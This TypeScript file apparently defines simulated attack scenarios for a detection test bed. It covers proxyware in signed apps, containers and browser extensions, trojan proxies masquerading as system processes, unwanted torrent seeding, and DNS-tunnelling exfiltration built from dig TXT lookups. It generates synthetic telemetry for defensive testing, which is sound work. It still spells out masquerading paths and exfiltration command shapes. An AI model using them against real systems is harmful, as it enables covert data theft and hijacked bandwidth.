import { capital, inventDomain, inventTeamId, inventWord } from '../invent.js';
import { SECOND, type Program } from '../machine.js';
import type { SimProcess } from '../event.js';
import { adHoc, CHROME_HELPER, developerId, DIG, DOCKER_BACKEND, SH, unsigned } from '../fleet/programs.js';
import type { Attack } from './scenario.js';
import type { Stage } from './stage.js';

interface Relay {
  readonly process: SimProcess;
  readonly connections: number;
  readonly bytes: number;
  readonly campaign: number;
  /** What the node keeps open to its operator. */
  readonly broker: ReturnType<Stage['named']>;
  readonly quicShare?: number;
}

/** Relaying: a control connection for hours, and thousands of unrelated sites in both directions alike. */
function relay(stage: Stage, plan: Relay): void {
  const { process, bytes, campaign } = plan;
  stage.send({
    from: process,
    to: plan.broker,
    connections: Math.max(1, campaign / 70_000),
    seconds: Math.min(campaign, 20 * 3600),
    out: bytes * 0.52,
    in: bytes * 0.5,
    campaign,
  });
  const named = stage.random.between(0.5, 0.9);
  const third = (): ReturnType<Stage['named']> =>
    stage.random.chance(named)
      ? stage.named(`${stage.random.pick(['www', 'api', 'm', 'shop', 'cdn'])}.${inventDomain(stage.random)}`)
      : stage.rawAddress(stage.random.pick([443, 443, 80, 8080]));
  const quic = plan.quicShare ?? 0.1;
  stage.send({
    from: process,
    to: third,
    connections: plan.connections * (1 - quic),
    seconds: 25,
    out: bytes * 0.43,
    in: bytes * 0.47,
    campaign,
  });
  stage.send({
    from: process,
    to: third,
    connections: plan.connections * quic,
    seconds: 40,
    out: bytes * 0.05,
    in: bytes * 0.06,
    campaign,
    transport: 'quic',
  });
}

const KNOWN_PROXYWARE: readonly (readonly [string, string, string])[] = [
  [
    '/Applications/EarnApp.app/Contents/Library/LoginItems/net-updater.app/Contents/MacOS/net-updater',
    'io.luminati.sdk.net-updater',
    'proxyjs.brdtnet.com',
  ],
  ['/Applications/Honeygain.app/Contents/MacOS/Honeygain', 'com.honeygain.honeygain', 'api.honeygain.com'],
  ['/Applications/Pawns app.app/Contents/MacOS/Pawns app', 'com.pawns.desktop', 'cdn.pawns.app'],
  ['/Applications/Grass.app/Contents/MacOS/Grass', 'io.getgrass.desktop', 'proxy.getgrass.io'],
];

function attack(scenario: Omit<Attack, 'kind'>): Attack {
  return { kind: 'attack', ...scenario };
}

export const PROXYWARE: readonly Attack[] = [
  attack({
    id: 'A15',
    title: 'Proxyware inside a free signed app',
    difficulty: 'must',
    techniques: ['T1496.002', 'T1090.002'],
    uses: ['proxyware'],
    presence: 'any',
    campaign: 86_400,
    play: (stage) => {
      // Half the time a product that lists know, half the time the same thing under a name nobody has seen.
      const known = stage.random.chance(0.5);
      const word = inventWord(stage.random);
      const team = inventTeamId(stage.random);
      const [path, id, broker] = known
        ? stage.random.pick(KNOWN_PROXYWARE)
        : [
            `/Applications/${capital(word)}.app/Contents/Helpers/${word}-updater`,
            `com.${word}.updater`,
            `tun.${word}.${stage.random.pick(['io', 'net', 'com'])}`,
          ];
      const process = stage.exec(developerId(path, id, team, `${capital(word)} Ltd`));
      relay(stage, {
        process,
        broker: stage.named(broker),
        connections: stage.around(9000),
        bytes: stage.around(6e9),
        campaign: stage.around(86_400, 1.5),
        quicShare: stage.random.pick([0.05, 0.3]),
      });
    },
  }),
  attack({
    id: 'A16',
    title: 'Proxyware inside a container',
    difficulty: 'hard',
    techniques: ['T1496.002'],
    uses: ['docker'],
    presence: 'active',
    campaign: 86_400,
    roles: ['developer', 'scientist'],
    play: (stage) => {
      const process = stage.through(['docker'], DOCKER_BACKEND);
      relay(stage, {
        process,
        broker: stage.named(
          stage.random.pick(['peer.proxyrack.com', 'app.traffmonetizer.com', 'proxy.packetstream.io']),
        ),
        connections: stage.around(7000),
        bytes: stage.around(5e9),
        campaign: stage.around(86_400, 1.4),
      });
    },
  }),
  attack({
    id: 'A17',
    title: 'Trojan proxy from cracked software',
    difficulty: 'must',
    techniques: ['T1496.002', 'T1090.002', 'T1036.005'],
    uses: ['implant', 'proxyware'],
    presence: 'any',
    campaign: 86_400,
    play: (stage) => {
      const sh = stage.exec(SH, {
        args: ['/bin/bash', './postinstall'],
        user: 'root',
        until: stage.start + 30 * SECOND,
      });
      const process = stage.exec(
        unsigned(
          `${stage.home}/Library/Application Support/${stage.random.pick(['WindowServer', 'GoogleHelper', 'mdworker', 'softwareupdated'])}`,
        ),
        { parent: sh, at: stage.start + 4 * SECOND },
      );
      const broker = stage.random.chance(0.5)
        ? stage.named('register.akamaized.ca', 6101)
        : stage.rented(stage.random.integer(2000, 9900), 'register');
      relay(stage, {
        process,
        broker,
        connections: stage.around(4000),
        bytes: stage.around(3e9),
        campaign: stage.around(86_400, 1.5),
      });
    },
  }),
  attack({
    id: 'A18',
    title: 'Adware node turned into a proxy exit',
    difficulty: 'must',
    techniques: ['T1496.002', 'T1090.002'],
    uses: ['implant', 'proxyware'],
    presence: 'any',
    campaign: 86_400,
    play: (stage) => {
      const letters = 'abcdefghijklmnopqrstuvwxyz0123456789';
      const directory = `${stage.home}/Library/Application Support/${stage.random.text(letters, stage.random.integer(7, 30))}`;
      const process = stage.exec(
        adHoc(
          `${directory}/${stage.random.text(letters, 9)}/${stage.random.pick(['helper', 'main', 'm', 'h'])}`,
          'a.out',
          stage.random.hex(8),
        ),
      );
      const campaign = stage.around(86_400, 1.5);
      const manager = stage.rented(443, 'manager');
      stage.send({
        from: process,
        to: manager,
        connections: campaign / 60,
        seconds: 2,
        out: 1.2e6,
        in: 1e6,
        campaign,
        jitter: 0.1,
        sizes: 'fixed',
      });
      relay(stage, {
        process,
        broker: manager,
        connections: stage.around(5000),
        bytes: stage.around(2e9),
        campaign,
      });
    },
  }),
  attack({
    id: 'A19',
    title: 'Unwanted torrent seeding',
    difficulty: 'must',
    techniques: ['T1496.002'],
    uses: ['torrent'],
    presence: 'any',
    campaign: 172_800,
    play: (stage) => {
      const torrents: readonly Program[] = [
        developerId(
          '/Applications/Transmission.app/Contents/MacOS/Transmission',
          'org.m0k.transmission',
          '5DPYRBHEAR',
          'Transmission',
        ),
        adHoc('/Applications/qbittorrent.app/Contents/MacOS/qbittorrent', 'org.qbittorrent.qBittorrent'),
        developerId(
          '/Applications/uTorrent.app/Contents/MacOS/uTorrent',
          'com.bittorrent.uTorrent',
          'SNBT6M4A7T',
          'BitTorrent, Inc.',
        ),
      ];
      const process = stage.exec(stage.random.pick(torrents));
      const campaign = stage.around(172_800, 1.4);
      const bytes = stage.around(45e9);
      const count = stage.around(15_000);
      const peer = (): ReturnType<Stage['named']> =>
        stage.random.chance(0.15)
          ? stage.rawAddress6(stage.random.integer(6881, 60_000))
          : stage.residential(stage.random.integer(6881, 60_000));
      stage.send({
        from: process,
        to: peer,
        connections: count * 0.5,
        seconds: 2400,
        out: bytes * 0.55,
        in: bytes * 0.05,
        campaign,
      });
      stage.send({
        from: process,
        to: peer,
        connections: count * 0.5,
        seconds: 1500,
        out: bytes * 0.45,
        in: bytes * 0.04,
        campaign,
        transport: 'udp',
      });
    },
  }),
  attack({
    id: 'A20',
    title: 'Proxyware as a browser extension',
    difficulty: 'hard',
    techniques: ['T1496.002', 'T1176'],
    uses: ['browser'],
    presence: 'active',
    campaign: 86_400,
    play: (stage) => {
      const process = stage.through(['chrome', 'edge', 'firefox', 'safari'], CHROME_HELPER, {
        args: [CHROME_HELPER.executable, '--type=utility'],
      });
      relay(stage, {
        process,
        broker: stage.named(stage.random.pick(['proxy2.wynd.network', 'nw.nodepay.ai'])),
        connections: stage.around(2500),
        bytes: stage.around(800e6),
        campaign: stage.around(36_000),
      });
    },
  }),
  attack({
    id: 'A34',
    title: 'Data in names looked up with dig',
    difficulty: 'hard',
    techniques: ['T1048.003', 'T1071.004'],
    uses: ['dig'],
    presence: 'any',
    campaign: 18_000,
    play: (stage) => {
      const domain = inventDomain(stage.random);
      const sh = stage.exec(SH, { args: ['sh', '/private/tmp/.d.sh'], script: '/private/tmp/.d.sh' });
      const resolver = { name: '', ip: stage.random.pick(['1.1.1.1', '8.8.8.8', '9.9.9.9']), port: 53 };
      stage.send({
        from: (index, at) =>
          stage.exec(DIG, {
            at: at - 30,
            until: at + SECOND,
            args: ['dig', '+short', `${stage.random.hex(40)}${index}.${domain}`, 'TXT'],
            parent: sh,
          }),
        to: resolver,
        connections: stage.around(4000, 1.4),
        seconds: 0.2,
        out: stage.around(12e6),
        in: 14e6,
        campaign: stage.around(18_000),
        transport: 'udp',
      });
    },
  }),
];
